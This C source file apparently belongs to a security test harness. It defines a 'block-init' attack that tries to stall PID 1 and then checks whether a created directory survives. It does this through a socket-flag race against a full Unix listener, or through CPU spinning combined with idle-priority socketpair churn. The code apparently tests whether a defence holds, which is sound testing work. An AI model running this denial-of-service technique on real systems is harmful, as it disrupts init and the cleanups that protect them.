/* SPDX-License-Identifier: Apache-2.0 */
/* A: keeping PID 1 from its work, so that nobody undoes what should not be. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

#define TRY_MS 1000
#define LOOK_MS 1500

static int sock;
static struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "full.sock"};

static void *clear_flags(void *arg)
{
    for (;;)
        fcntl(sock, F_SETFL, 0);
    return arg;
}

static void *connect_to_full(void *arg)
{
    /* It never comes back, or with an error: nobody accepts. */
    return connect(sock, (struct sockaddr *)&address, sizeof address) < 0 ? arg : NULL;
}

/* One that accepts nothing, and has no room for another. */
static void fill_listener(void)
{
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);

    unlink(address.sun_path);
    need(listener >= 0 && bind(listener, (struct sockaddr *)&address, sizeof address) == 0 &&
             listen(listener, 0) == 0,
         "listen");
    for (int i = 0; i < 8; i++) {
        int client = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (connect(client, (struct sockaddr *)&address, sizeof address) < 0)
            break;
    }
}

/*
 * Who connects on behalf of others does so without waiting, by a flag of the socket; which is the caller's,
 * who takes it away in the last moment.
 */
static void block_connect(void)
{
    pthread_t thread;

    fill_listener();
    sock = socket(AF_UNIX, SOCK_STREAM, 0);
    need(sock >= 0, "socket");
    for (int i = 0; i < 2; i++)
        need(pthread_create(&thread, NULL, clear_flags, NULL) == 0, "thread");
    need(pthread_create(&thread, NULL, connect_to_full, NULL) == 0, "thread");
}

static void *spin(void *arg)
{
    for (;;)
        sched_getcpu();
    return arg;
}

static void *make_pairs(void *arg)
{
    const struct sched_param param = {0};
    int pair[2];

    sched_setscheduler(0, SCHED_IDLE, &param); /* of this thread only */
    for (;;)
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0) {
            close(pair[0]);
            close(pair[1]);
        }
    return arg;
}

/* Who is given a descriptor takes it when it runs, which others can keep it from. */
static void block_pair(void)
{
    long spinners = 2 * sysconf(_SC_NPROCESSORS_ONLN);
    pthread_t thread;

    for (long i = 0; i < spinners && i < 64; i++)
        need(pthread_create(&thread, NULL, spin, NULL) == 0, "thread");
    for (int i = 0; i < 8; i++)
        need(pthread_create(&thread, NULL, make_pairs, NULL) == 0, "thread");
}

static int block_init(char **arg)
{
    struct stat st;

    if (strcmp(arg[0], "pair") == 0)
        block_pair();
    else
        block_connect();
    for (double until = now_ms() + TRY_MS; now_ms() < until;)
        usleep(1000);
    need(mkdir(arg[1], 0755) == 0, "mkdir");
    for (double until = now_ms() + LOOK_MS; now_ms() < until; usleep(1000))
        if (stat(arg[1], &st) < 0 && errno == ENOENT)
            return held("%s is gone", arg[1]);
    return escaped("%s is still there", arg[1]);
}

const struct verb init_verbs[] = {
    {"block-init", "connect|pair PATH", 2, block_init},
    {0},
};
